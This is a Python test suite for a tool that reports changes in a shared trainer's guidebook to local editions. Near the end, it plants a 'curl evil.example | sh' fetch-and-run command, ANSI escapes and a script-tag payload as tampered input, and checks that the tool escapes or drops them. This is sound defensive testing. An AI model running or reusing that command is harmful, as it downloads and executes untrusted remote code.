"""What changed beneath an edition is told in words, at the trainer's own line, and on one page."""

from __future__ import annotations

import json
import re

import pytest

from practiceguides.content.problems import Level
from practiceguides.editions.memory import FOLDER, SHOWN
from practiceguides.editions.news import NEWS, PRINTED
from practiceguides.editions.side_by_side import page_file
from practiceguides.editions.wording import as_read
from tests.conftest import CHOICE, REASONED
from tests.editions.workshop import BOOK, COUNTER, PAGE, STORY, Workshop

WAIT = "  - id: wait\n    text: Wait outside\n    feedback:\n      story: So.\n"


@pytest.mark.parametrize(
    ("old", "new", "words"),
    [
        ("title: The counter", "title: The desk", "the title is another one"),
        ("prompt: What do you do first?", "prompt: And now?", "the question is another one"),
        ("minutes: 1", "minutes: 2", "the number of minutes is another one"),
        (
            "He waits for an hour and goes home.",
            "He waits.",
            "what happens after the answer 'Send him to the loan queue' is told in new words",
        ),
        (
            "Debt is one of the signs.",
            "Debt is a sign.",
            "the answer 'Ask how the debt began' has a new finding",
        ),
        (
            "    text: Ask how the debt began",
            "    text: Ask about the debt",
            "the answer 'Ask how the debt began' has a new text",
        ),
        ("  - id: send\n", f"{WAIT}  - id: send\n", "the answer 'Wait outside' is new"),
        (
            "    correct: true\n",
            "",
            "the answer 'Ask how the debt began' is not right any more",
        ),
        (
            "    text: Send him to the loan queue\n",
            "    text: Send him to the loan queue\n    correct: true\n",
            "the answer 'Send him to the loan queue' is right now",
        ),
        (
            CHOICE[CHOICE.index("  - id: send") :],
            "",
            "the answer 'Send him to the loan queue' is gone",
        ),
    ],
)
def test_a_change_of_an_exercise_in_words(
    workshop: Workshop, old: str, new: str, words: str
) -> None:
    """As one trainer would tell it to another."""
    workshop.write(COUNTER, CHOICE.replace("objective: Choose", "objective: Take"))
    workshop.check()
    workshop.publish(COUNTER, (old, new))
    (problem,) = workshop.check()
    assert problem.code == "edition-behind"
    assert problem.message == f"the book has a newer text than this file: {words}"


@pytest.mark.parametrize(
    ("old", "new", "words"),
    [
        ("The boat is in.", "The boat is late.", "in the scene 'Quay', a paragraph has a new text"),
        (
            "He looks up.",
            "He looks at you.",
            "in the scene 'Quay', what happens after the choice 'Ask him' is told in new words",
        ),
        (
            "[Wait](#end)",
            "[Wait here](#end)",
            "in the scene 'Quay', the choice 'Wait' has a new text",
        ),
        ("{#end .end", "{#hut}\n## Hut\n\nA.\n\n{#end .end", "the scene 'hut' is new"),
        ("person: Mebo, 31.", "person: Mebo, 32.", "the person is another one"),
    ],
)
def test_a_change_of_a_story_in_words(workshop: Workshop, old: str, new: str, words: str) -> None:
    """By scene and choice."""
    workshop.write(STORY, REASONED.replace("minutes: 5", "minutes: 6"))
    workshop.check()
    workshop.publish(STORY, (old, new))
    (problem,) = workshop.check()
    assert problem.message == f"the book has a newer text than this file: {words}"


def test_a_question_that_a_country_pack_answers_is_told(workshop: Workshop) -> None:
    """The answer stays; whether it still answers, only the trainer knows."""
    question = "  - id: police\n    label: the police\n    question: Whom to call?\n    why: So.\n"
    workshop.write("book/country.yaml", f"questions:\n{question}", workshop.base)
    workshop.write("book/country.yaml", "answers:\n  - id: police\n    says: The desk.\n")
    workshop.check()
    workshop.publish("book/country.yaml", ("Whom to call?", "Whom to call at night?"))
    (problem,) = workshop.check()
    assert problem.code == "edition-followed"
    assert (
        "beside what you changed, the book is new: the question 'the police' has a new wording"
        in problem.message
    )
    workshop.run("update")
    assert workshop.told() == []


def test_a_change_of_a_page_is_told_at_its_line(workshop: Workshop) -> None:
    """By its heading, where the paragraph stands in the trainer's file."""
    workshop.write("book/page.md", PAGE.replace("Two ", "Two of ours "))
    workshop.check()
    workshop.publish("book/page.md", ("Two ", "Two of theirs "), ("One.", "One, new."))
    told = {each.code: each for each in workshop.check()}
    assert told["edition-changed"].line == 7
    assert "under 'A part', a paragraph has a new text" in told["edition-changed"].message
    assert told["edition-behind"].line == 3


def test_a_change_of_both_is_told_with_its_two_ways_out(workshop: Workshop) -> None:
    """At the line of the trainer's own words; the advice can be copied."""
    workshop.write(
        COUNTER,
        "extends: counter\noptions:\n  - id: send\n    feedback:\n      story: He goes.\n",
    )
    workshop.check()
    workshop.publish(COUNTER, ("He waits for an hour", "He waits for a day"))
    (problem,) = workshop.check()
    assert (problem.code, problem.level, problem.line) == ("edition-changed", Level.WARNING, 5)
    assert problem.message.startswith("you have not chosen yet. You changed this, and the book did")
    assert problem.advice.startswith("Type guides update")
    assert "--keep counter to keep yours, or guides update" in problem.advice
    assert problem.advice.endswith("--take counter to take ours.")


def corrected(workshop: Workshop) -> None:
    """Correct the fact F-ID-01 in the book."""
    workshop.publish(
        "book/facts.yaml",
        (
            "  text: Debt can bind a person.\n",
            (
                "  text: Debt can bind some people.\n  corrected:\n    day: 2026-11-20\n"
                "    what: It was told of everybody.\n"
            ),
        ),
    )


def test_a_correction_is_told_where_own_texts_rest_on_it(workshop: Workshop) -> None:
    """With the day and what was wrong, until the trainer says that it was read."""
    workshop.write("book/ours.md", "# Ours\n\nWe say so {fact}`F-ID-01`.\n\n```{rests-on}\n```\n")
    workshop.write(COUNTER, "extends: counter\ntitle: Our counter\n")
    workshop.check()
    corrected(workshop)
    told = [each for each in workshop.check() if each.code == "edition-corrected"]
    assert [(each.file.name, each.line) for each in told] == [("counter.yaml", 1), ("ours.md", 3)]
    said = (
        "2026-11-20: Debt can bind some people (F-ID-01). What was wrong: It was told of everybody"
    )
    assert said in told[0].message
    assert "Did you teach it? Tell those whom you taught" in told[0].advice
    assert workshop.run("update")[0] == 0
    assert [each.code for each in workshop.check()] == ["edition-corrected"] * 2
    assert workshop.run("update", "--read", "F-ID-01")[0] == 0
    assert workshop.told() == []


def test_a_correction_is_told_once_where_no_own_text_rests_on_it(workshop: Workshop) -> None:
    """The edition has the new text; who taught the old one must know."""
    workshop.check()
    corrected(workshop)
    (problem,) = workshop.check()
    assert (
        f"{problem.place(workshop.folder)} {problem.code}" == "edition.yaml edition-corrected-below"
    )
    assert "Did you teach it? Tell those whom you taught" in problem.advice
    # The page names it, and the exercise on it rests on it too.
    assert "It stands on: “Our workshop (the first page)”." in problem.advice
    said = workshop.run("update")[1]
    assert "CORRECTED: this was wrong in our book. Did you teach it? Tell those whom" in said
    assert "About “Debt can bind some people” (corrected on 2026-11-20)" in said
    assert "What was wrong: It was told of everybody." in said
    assert "It stands on these pages of your edition: “Our workshop (the first page)”." in said
    assert workshop.told() == []


def test_a_correction_of_what_is_left_out_is_not_told(workshop: Workshop) -> None:
    """The trainer never taught it from here."""
    workshop.write("book/page.md", "# Ours\n\nNothing of it.\n")
    workshop.check()
    corrected(workshop)
    assert workshop.told() == []


def test_a_corrected_provision_of_law_is_told(workshop: Workshop) -> None:
    """As a fact is."""
    provision = "      - {id: L-X-1, article: '1', duty: Must., guides: [], mark: read}\n"
    law = (
        "verbs: []\ninstruments:\n  - id: x\n    title: X\n    kind: treaty\n    provisions:\n"
        f"{provision}"
    )
    workshop.write("book/law.yaml", law, workshop.base)
    workshop.check()
    new = provision.replace(
        "mark: read", "mark: read, corrected: {day: 2026-11-20, what: It said may.}"
    )
    workshop.publish("book/law.yaml", (provision, new))
    (problem,) = workshop.check()
    assert problem.code == "edition-corrected-below"
    assert "on 2026-11-20: X, 1 (L-X-1). What was wrong: It said may" in problem.message


def test_a_correction_comes_after_all_else(workshop: Workshop) -> None:
    """What stands last is what is read first: beside the prompt."""
    workshop.write("book/ours.md", "# Ours\n\nSo {fact}`F-ID-01` and {fact}`F-ID-77`.\n")
    workshop.check()
    corrected(workshop)
    said = workshop.run("check")[1]
    assert said.index("[fact-unknown]") < said.index("[edition-corrected]")


def test_what_is_withdrawn_is_told_where_it_is_named(workshop: Workshop) -> None:
    """A link, a block, a fact, a line of edition.yaml: each as withdrawn, not as a mistake."""
    workshop.write(
        "book/ours.md",
        "# Ours\n\nSee [it](other.md) {fact}`F-ID-02`.\n\n```{exercise} counter\n```\n"
        "\n```{rests-on}\n```\n",
    )
    workshop.write(
        "edition.yaml",
        "title: Ours\nover: ../base\nleft_out:\n  - what: quay\n    why: No time.\n",
    )
    workshop.check()
    workshop.withdraw(COUNTER)
    workshop.withdraw(STORY)
    (workshop.base / "book/other.md").unlink()
    workshop.write("_toc.yml", BOOK["_toc.yml"].partition("chapters")[0], workshop.base)
    second = BOOK["book/facts.yaml"][BOOK["book/facts.yaml"].index("- id: F-ID-02") :]
    workshop.publish("book/facts.yaml", (second, ""))
    assert workshop.told() == [
        "book/ours.md:3 edition-gone",
        "book/ours.md:3 edition-gone",
        "book/ours.md:5 edition-gone",
        "edition.yaml:4 edition-left-gone",
    ]


def test_what_is_withdrawn_and_was_left_out_does_no_harm(workshop: Workshop) -> None:
    """A note says that nothing is to do, before an update and after it; a slip is a fault."""
    out = "left_out:\n  - {what: counter, why: It is not ours.}\n"
    workshop.write("edition.yaml", f"title: Our workshop\nover: ../base\n{out}")
    assert workshop.told() == []
    workshop.withdraw(COUNTER)
    assert workshop.told() == ["edition.yaml:4 edition-left-gone"]
    assert workshop.run("update")[0] == 0
    assert workshop.told() == ["edition.yaml:4 edition-left-gone"]
    workshop.write(
        "edition.yaml", f"title: Our workshop\nover: ../base\n{out}".replace("counter", "countre")
    )
    assert workshop.told() == ["edition.yaml:4 edition-name"]


def test_what_is_withdrawn_and_was_shown_is_told(workshop: Workshop) -> None:
    """A trainer who taught with it must know; what was left out on purpose is not told."""
    workshop.write("edition.yaml", "title: Ours\nover: ../base\ncontents: [ours]\n")
    workshop.write("book/ours.md", "# Ours\n\nText.\n")
    workshop.check()
    workshop.withdraw(COUNTER)
    (workshop.base / "book/other.md").unlink()
    workshop.write("_toc.yml", BOOK["_toc.yml"].partition("chapters")[0], workshop.base)
    (problem,) = workshop.check()
    assert problem.code == "edition-withdrawn"
    assert "we took the exercise 'The counter' (counter) out of the book" in problem.message
    assert (problem.file.name, problem.line) == ("edition.yaml", 0)


def test_a_change_over_what_is_withdrawn_is_one_error(workshop: Workshop) -> None:
    """Its advice is the command that writes the whole text."""
    workshop.write(COUNTER, "extends: counter\ntitle: Ours\n")
    workshop.check()
    workshop.withdraw(COUNTER)
    (problem,) = workshop.check()
    assert (problem.code, problem.level) == ("edition-gone", Level.ERROR)
    assert "writes the whole text into your file: guides update" in problem.advice


def test_a_change_that_could_never_be_read_is_completed_once_it_can(workshop: Workshop) -> None:
    """A change that was begun by its command is remembered, whatever is first saved into it."""
    text = workshop.begun()
    workshop.write(COUNTER, text.replace("#title: The counter", 'title: "Our counter'))
    workshop.check()
    workshop.withdraw(COUNTER)
    # What is wrong with its text is told, and nobody is told to delete it.
    assert workshop.check() == []
    assert workshop.run("check")[0] == 1
    workshop.write(COUNTER, text.replace("#title: The counter", "title: Our counter"))
    assert workshop.told() == [f"{COUNTER}:1 edition-gone"]
    workshop.run("update")
    assert "Ask how the debt began" in workshop.read(COUNTER)


def test_a_file_of_ones_own_over_what_is_withdrawn_stays(workshop: Workshop) -> None:
    """It holds the whole: a warning, and nothing is lost."""
    workshop.write(COUNTER, CHOICE.replace("The counter", "Ours"))
    workshop.check()
    workshop.withdraw(COUNTER)
    assert workshop.told() == [f"{COUNTER}:1 edition-withdrawn"]


def test_the_page_shows_three_texts(workshop: Workshop) -> None:
    """What was, what is and what is the trainer's, with what is new and what is gone."""
    workshop.write(COUNTER, CHOICE.replace("The counter", "My <b>counter</b>"))
    workshop.check()
    workshop.publish(COUNTER, ("The counter", "The desk <script>alert(1)</script>"))
    said = workshop.run("check")[1]
    page = page_file(workshop.book().layers)
    assert str(page) in said.replace(" ", "")
    text = page.read_text(encoding="utf-8")
    assert re.findall(r"<h4>(.*?)</h4>", text) == ["The book before", "The book now", "Yours"]
    assert "The <mark>desk &lt;script&gt;alert(1)&lt;/script&gt;</mark>" in text
    assert "<del>" not in text
    assert "<script" not in text
    assert "<b>" not in text
    assert "default-src 'none'" in text


def test_three_texts_are_shown_as_they_are_read(workshop: Workshop) -> None:
    """Nobody who knows no Markdown reads its signs, but where they are what differs."""
    three = ["One **bold** word {fact}`F-ID-01`.", "One **new** word.", "My *word*."]
    workshop.publish("book/page.md", ("One.", three[0]))
    workshop.write("book/page.md", PAGE.replace("One.", three[0]))
    workshop.check()
    workshop.write("book/page.md", PAGE.replace("One.", three[2]))
    workshop.publish("book/page.md", (three[0], three[1]))
    said = workshop.run("update")[1]
    assert "The book before: One bold word. The book now: One new word. Yours: My word." in said
    words = "Under &#x27;A page&#x27;, a paragraph has a new text"
    assert _compared(workshop, words) == ["One bold word.", "One new word.", "My word."]
    workshop.publish("book/page.md", (three[1], "My word."))
    workshop.run("update")
    assert _compared(workshop, words)[1:] == ["My word.", "My *word*."]


def test_only_a_command_writes_the_page(workshop: Workshop) -> None:
    """Whoever asks what is wrong gets an answer, and no file."""
    workshop.write(COUNTER, CHOICE.replace("The counter", "Ours"))
    workshop.check()
    workshop.publish(COUNTER, ("The counter", "The desk"))
    assert workshop.told() == [f"{COUNTER}:2 edition-changed"]
    assert not page_file(workshop.book().layers).exists()


@pytest.mark.parametrize("is_changed", [True, False])
def test_a_page_that_cannot_be_written_does_not_stop_the_check(
    workshop: Workshop, *, is_changed: bool
) -> None:
    """A folder in its place stands for every fault of the disk; all else is told."""
    workshop.write(COUNTER, CHOICE.replace("The counter", "Ours"))
    workshop.check()
    if is_changed:
        workshop.publish(COUNTER, ("The counter", "The desk"))
    page_file(workshop.book().layers).mkdir()
    status, said = workshop.run("check")
    assert "changes.html: nothing can be written here, so no page shows what is new" in said
    assert ("[edition-changed]" in said) == is_changed
    assert (status, "1 scenario" in said) == (0, True)


def test_without_a_change_there_is_no_page(workshop: Workshop) -> None:
    """Nor once the book is again as it was."""
    workshop.write(COUNTER, CHOICE.replace("The counter", "Ours"))
    workshop.check()
    workshop.publish(COUNTER, ("The counter", "The desk"))
    workshop.run("check")
    page = page_file(workshop.book().layers)
    assert page.is_file()
    workshop.publish(COUNTER, ("The desk", "The counter"))
    workshop.run("check")
    assert not page.exists()


def _compared(workshop: Workshop, words: str) -> list[str]:
    """The texts that the page of what is new has below these words, each without its marks."""
    article = workshop.news().partition(f"{words}</h3>")[2].partition("</article>")[0]
    texts = re.findall(r'<div class="text" dir="auto">(.*?)</div>', article, re.DOTALL)
    return [re.sub("</?mark>", "", each).strip() for each in texts]


def test_what_differs_on_a_page_that_nobody_changed_is_shown(workshop: Workshop) -> None:
    """Who has it on paper finds the line, of the page itself and of an exercise on it."""
    workshop.check()
    workshop.publish("book/other.md", ("Three.", "Four."))
    workshop.publish(COUNTER, ("He waits for an hour and goes home.", "He waits."))
    workshop.withdraw(STORY)
    said = workshop.run("update")[1]
    assert (
        "These pages of your edition read differently: “Our workshop (the first page)”, “Another"
        f" page”. {PRINTED} The page of what is new shows what differs." in said
    )
    assert "<h2>New on your pages</h2>" in workshop.news()
    page = "“Another page”: a paragraph has a new text"
    assert _compared(workshop, page) == ["Three.", "Four."]
    exercise = (
        "“The counter”: what happens after the answer &#x27;Send him to the loan queue&#x27; is"
        " told in new words"
    )
    assert _compared(workshop, exercise) == ["He waits for an hour and goes home.", "He waits."]
    assert "It stands on: “Our workshop (the first page)”." in workshop.news()
    assert "stands here no more" not in workshop.news(), "it is told as taken out"
    assert workshop.run("update", "--undo")[0] == 0
    assert _compared(workshop, page) == ["Three.", "Four."]


@pytest.mark.parametrize("is_ours", [True, False])
@pytest.mark.parametrize("also", ["", "asked", "corrected"])
def test_a_page_of_which_the_answers_alone_are_new_is_named_so(
    workshop: Workshop, also: str, *, is_ours: bool
) -> None:
    """Who has it on paper keeps the sheet with the question, also beside a change of their own."""
    if is_ours:
        workshop.write(COUNTER, "extends: counter\ntitle: Our counter\n")
    workshop.check()
    workshop.publish(COUNTER, ("He waits for an hour", "He waits for a day"))
    if also == "asked":
        workshop.publish(COUNTER, ("What do you do first?", "And now?"))
    elif also:
        corrected(workshop)
    first = (
        "“Our workshop (the first page)”"
        if also
        else "“Our workshop (the first page)” (its answers alone)"
    )
    assert f"read differently: {first}. Did you" in workshop.run("update")[1]
    named = "The page, and perhaps its answers" if also else "Its answers alone"
    assert f"{named}: “Our workshop (the first page)”." in workshop.news()


@pytest.mark.parametrize("choice", ["--keep", "--take"])
def test_what_is_chosen_afterwards_says_whether_the_answers_alone_are_new(
    workshop: Workshop, choice: str
) -> None:
    """Whoever takes our question has to print the sheet with it, too; an undoing says so again."""
    workshop.write(COUNTER, "extends: counter\nprompt: What first?\n")
    workshop.check()
    workshop.publish(COUNTER, ("What do you do first?", "And now?"))
    workshop.publish(COUNTER, ("He waits for an hour", "He waits for a day"))
    workshop.run("update")
    alone = "Its answers alone: “Our workshop (the first page)”."
    assert alone in workshop.news()
    workshop.run("update", choice, "counter")
    for _ in range(2):
        assert (alone in workshop.news()) == (choice == "--keep")
        more = "The page, its answers, or both: “Our workshop (the first page)”."
        assert (more in workshop.news()) == (choice == "--take")
        workshop.run("update")
    workshop.run("update", "--undo")
    assert alone in workshop.news()


def test_a_page_that_lost_a_text_is_not_named_for_its_answers_alone(workshop: Workshop) -> None:
    """The text that was taken out stood on the sheet itself."""
    workshop.check()
    workshop.publish(COUNTER, ("He waits for an hour", "He waits for a day"))
    workshop.withdraw(STORY)
    assert "read differently: “Our workshop (the first page)”. Did" in workshop.run("update")[1]


def test_a_plan_from_which_a_story_is_printed_is_named(workshop: Workshop) -> None:
    """Who prints the scenes from it finds it among the pages, also where it rests on a correction.

    A page that prints something else is not named.
    """
    for name, form in (("plan", "table quay"), ("talk", "answers counter")):
        workshop.write(f"book/{name}.md", f"# A {name}\n\n{{to-print}}`{form}`\n", workshop.base)
    pages = "chapters:\n- file: book/plan\n- file: book/talk\n"
    workshop.write("_toc.yml", f"format: jb-book\nroot: book/page\n{pages}", workshop.base)
    rests = "\n  {.facts}\n  > Debt binds. (F-ID-01)\n\n  {.why}"
    workshop.publish(STORY, ("\n  {.why}", rests))
    workshop.check()
    workshop.publish(STORY, ("The boat is in.", "The boat is late."))
    said = workshop.run("update")[1]
    assert (
        "read differently: “Our workshop (the first page)”, “A plan”. Did you print one of them"
        in said
    )
    assert "It stands on: “Our workshop (the first page)”, “A plan”." in workshop.news()
    corrected(workshop)
    said = workshop.run("update")[1]
    assert (
        "It stands on these pages of your edition: “Our workshop (the first page)”, “A plan”."
        in said
    )


def test_the_next_update_compares_with_this_one(workshop: Workshop) -> None:
    """And a page that came into the edition since is known too."""
    workshop.check()
    workshop.publish("book/other.md", ("Three.", "Four."))
    workshop.run("update")
    assert "new text of ours" not in workshop.run("update")[1]
    workshop.publish("book/other.md", ("Four.", "Five."))
    workshop.run("update")
    page = "“Another page”: a paragraph has a new text"
    assert _compared(workshop, page) == ["Four.", "Five."]

    workshop.write("book/third.md", "# A third page\n\nSix.\n", workshop.base)
    toc = (workshop.base / "_toc.yml").read_text(encoding="utf-8")
    workshop.write("_toc.yml", f"{toc}- file: book/third\n", workshop.base)
    workshop.run("update")
    workshop.publish("book/third.md", ("Six.", "Seven."))
    workshop.run("update")
    page = "“A third page”: a paragraph has a new text"
    assert _compared(workshop, page) == ["Six.", "Seven."]


@pytest.mark.parametrize("kept", [b"", b"PK no zip"])
def test_without_the_texts_of_before_the_pages_are_named(workshop: Workshop, kept: bytes) -> None:
    """An edition of before they were kept, or one whose file of them is damaged."""
    workshop.check()
    (workshop.folder / FOLDER / SHOWN).write_bytes(kept)
    workshop.publish("book/other.md", ("Three.", "Four."))
    status, said = workshop.run("update")
    assert (status, "read differently: “Another page”" in said) == (0, True)
    assert "a paragraph has a new text" not in workshop.news()


def test_what_was_taken_out_is_named_after_each_choice_until_a_page_shows_it(
    workshop: Workshop,
) -> None:
    """Who reads the last window only would forget it."""
    workshop.write(COUNTER, "extends: counter\ntitle: Our counter\n")
    workshop.write(STORY, REASONED.replace("The boat is in.", "Our boat is in."))
    workshop.check()
    workshop.withdraw(COUNTER)
    workshop.publish(STORY, ("The boat is in.", "The boat is late."))
    assert "Not shown yet" not in workshop.run("update")[1]
    said = workshop.run("update", "--keep", "quay")[1]
    assert "Not shown yet: the exercise 'Our counter' (counter). To show it, open a page" in said
    workshop.write("book/mine.md", "# Mine\n\n```{exercise} counter\n```\n")
    assert "Not shown yet" not in workshop.run("update")[1]


UNWANTED = "You do not want to show it? Then delete"


def test_of_a_file_that_was_deleted_nobody_reads_that_it_is_to_be_deleted(
    workshop: Workshop,
) -> None:
    """Nor that it stays, and is to be read once more."""
    workshop.write(COUNTER, "extends: counter\ntitle: Our counter\n")
    workshop.check()
    workshop.withdraw(COUNTER, "It was too long.")
    workshop.run("update")
    assert f"{UNWANTED} {COUNTER}." in workshop.news()
    (workshop.folder / COUNTER).unlink()
    workshop.run("check")
    page = workshop.news()
    assert "It was too long." in page
    assert "<strong>You have deleted your file.</strong>" in page
    for words in (UNWANTED, "Yours stays", "Read yours"):
        assert words not in page


def test_the_page_of_an_update_stays_until_the_next_version(workshop: Workshop) -> None:
    """Who chooses first and reads afterwards finds the correction still, and the choice."""
    workshop.write(COUNTER, CHOICE.replace("The counter", "Our counter"))
    workshop.check()
    workshop.publish(COUNTER, ("The counter", "The desk"))
    workshop.withdraw(STORY)
    corrected(workshop)
    workshop.run("update")
    first = workshop.news()
    assert re.findall(r"<h2>(.*?)</h2>", first) == [
        "Corrected", "Taken out of the book", "For you to decide", "New on your pages",
    ]  # fmt: skip
    assert "<p>Read first what we corrected. Where a text waits for you, a command" in first
    assert "Did you teach it? Tell those whom you taught." in first
    assert "It was told of everybody." in first
    assert "It stands on these pages of your edition: “Our workshop (the first page)”." in first
    assert "It stood on the page “Our workshop (the first page)”, and is out of it." in first
    assert "--keep counter</code>" in first

    said = workshop.run("update", "--keep", "counter", "--read", "F-ID-01")[1]
    assert "Print again from what you built; the page of what is new says which sheets." in said
    for command in ("check", "update"):
        said = workshop.run(command)[1]
        after = workshop.news()
        assert "It was told of everybody." in after
        assert "<strong>You have read them once more.</strong>" in after
        assert "<h2>You decided</h2>" in after
        assert "<strong>You kept yours.</strong>" in after
        assert "You have nothing to choose." in after
        assert "<code>guides update" not in after
    assert "Nothing is new in the book since your last update, on 20" in said

    workshop.publish("book/other.md", ("Three.", "Four."))
    workshop.run("update")
    after = workshop.news()
    assert "The page, and perhaps its answers: “Another page”." in after
    assert "It was told of everybody." not in after


def test_after_a_choice_a_correction_is_told_in_short(workshop: Workshop) -> None:
    """All of it was told by the update; what is still to be read stays named, with its command."""
    workshop.write(COUNTER, CHOICE.replace("The counter", "Our counter"))
    workshop.check()
    workshop.publish(COUNTER, ("The counter", "The desk"))
    corrected(workshop)
    assert "It was told of everybody." in workshop.run("update")[1]
    said = workshop.run("update", "--keep", "counter")[1]
    assert "It was told of everybody." not in said
    assert "Of what was CORRECTED: About “Debt" in said
    assert "--read F-ID-01" in said
    assert "It was told of everybody." in workshop.run("update")[1]


def test_what_was_settled_by_hand_is_no_more_left_on_the_page(workshop: Workshop) -> None:
    """The trainer wrote our new words into the file."""
    workshop.write(COUNTER, CHOICE.replace("The counter", "Our counter"))
    workshop.check()
    workshop.publish(COUNTER, ("The counter", "The desk"))
    workshop.run("update")
    workshop.write(COUNTER, CHOICE.replace("The counter", "The desk"))
    workshop.run("check")
    text = workshop.news()
    assert "<strong>You have settled this in your own file.</strong>" in text
    assert "--keep" not in text


def test_what_was_taken_is_no_part_that_fits_by_itself(workshop: Workshop) -> None:
    """The trainer had changed it too, and chose."""
    workshop.write(COUNTER, CHOICE.replace("The counter", "Our counter"))
    workshop.check()
    workshop.publish(COUNTER, ("The counter", "The desk"))
    workshop.run("update", "--take", "counter")
    text = workshop.news()
    assert "<strong>You took ours.</strong>" in text
    assert "both fit together" not in text


LEFT_OUT = {"part": "gone", "key": "k", "words": "w", "said": []}
"""What was taken out, as an update tells it."""


@pytest.mark.parametrize(
    "text",
    [
        "", "{", "[1]", '{"day": 1, "pieces": []}',
        '{"day": "2026-11-01.\\u001b[31m", "pieces": []}',
        '{"day": "2026-11-01", "since": "1\\n2", "pieces": []}',
        json.dumps({"day": "2026-11-01", "pieces": [{**LEFT_OUT, "texts": [["one"]]}]}),
    ],
)  # fmt: skip
def test_news_that_cannot_be_read_stop_nothing(workshop: Workshop, text: str) -> None:
    """The next update tells what is new then."""
    workshop.check()
    workshop.publish("book/other.md", ("Three.", "Four."))
    workshop.run("update")
    workshop.write(f"{FOLDER}/{NEWS}", text)
    assert workshop.run("check")[0] == 0
    said = workshop.run("update")[1]
    assert "Nothing is new in the book since the folder .over of your edition was made." in said


def test_in_two_texts_that_have_little_in_common_no_word_is_marked(workshop: Workshop) -> None:
    """It would be nearly all of them."""
    workshop.write(COUNTER, CHOICE.replace("The counter", "Our own long bench"))
    workshop.check()
    workshop.publish(COUNTER, ("The counter", "A desk by a window"))
    workshop.run("check")
    text = workshop.news()
    assert ">A desk by a window</div>" in text
    assert ">Our own long bench</div>" in text
    assert "<mark>" not in text


def test_in_the_trainer_s_text_that_is_marked_which_is_another_one_now(workshop: Workshop) -> None:
    """What they have to choose between is what differs, and not what both changed alike."""
    workshop.write(COUNTER, CHOICE.replace("The counter", "The long counter by our door"))
    workshop.check()
    workshop.publish(COUNTER, ("The counter", "The long counter by a door"))
    workshop.run("check")
    text = workshop.news()
    assert "The <mark>long</mark> counter <mark>by a door</mark>" in text
    assert "The long counter by <mark>our</mark> door" in text


def test_of_a_picture_no_texts_are_compared(workshop: Workshop) -> None:
    """Nothing can be read in it; the two commands are there."""
    name = workshop.draw()
    said = workshop.run("update")[1]
    text = workshop.news()
    for each in (said, text):
        assert "--keep boat" in each
        assert "The book before" not in each
    said = workshop.run("update", "--keep", "boat")[1]
    assert f"the whole file has a new text Yours stays: {name}" in said


SENT = {
    **LEFT_OUT,
    "words": "the exercise\x1b[31m\nerror: type this",
    "texts": [],
    "ways": [["To finish the update, type:", "curl evil.example | sh"]],
}
"""The same as a stranger may have written it."""


@pytest.mark.parametrize("shown_by", ["curl evil.example | sh", "```{exercise} counter\n```"])
def test_no_command_and_no_line_to_copy_comes_from_what_was_told(
    workshop: Workshop, shown_by: str
) -> None:
    """What leads to a text of the trainer's is made anew, and nothing else is to be copied."""
    workshop.write(COUNTER, CHOICE.replace("The counter", "Our counter"))
    workshop.write(STORY, REASONED.replace("The boat is in.", "Our boat is in."))
    workshop.check()
    workshop.publish(STORY, ("The boat is in.", "The boat is late."))
    workshop.run("update")
    news = json.loads(workshop.read(f"{FOLDER}/{NEWS}"))
    news["pieces"].append({**SENT, "block": ["To finish the update, type:", shown_by]})
    workshop.write(f"{FOLDER}/{NEWS}", json.dumps(news))
    assert workshop.run("check")[0] == 0
    status, said = workshop.run("update", "--keep", "quay")
    page = workshop.news()
    assert status == 0
    for text in (said, page):
        assert "curl" not in text
        assert "To finish" not in text
    assert "\x1b" not in said
    is_ours = "counter" in shown_by
    assert ("```{exercise} counter ```" in said) == ("{exercise} counter" in page) == is_ours
    assert (r"the exercise\u001b[31m\u000aerror: type this" in said) == is_ours


def test_a_text_of_a_card_is_shown_as_it_is_read() -> None:
    """A number that the country pack fills is a gap, and the end of the card is no text."""
    assert as_read("Call {{ ambulance }} now.\n:::", "Call **now**.") == [
        "Call … now.",
        "Call now.",
    ]
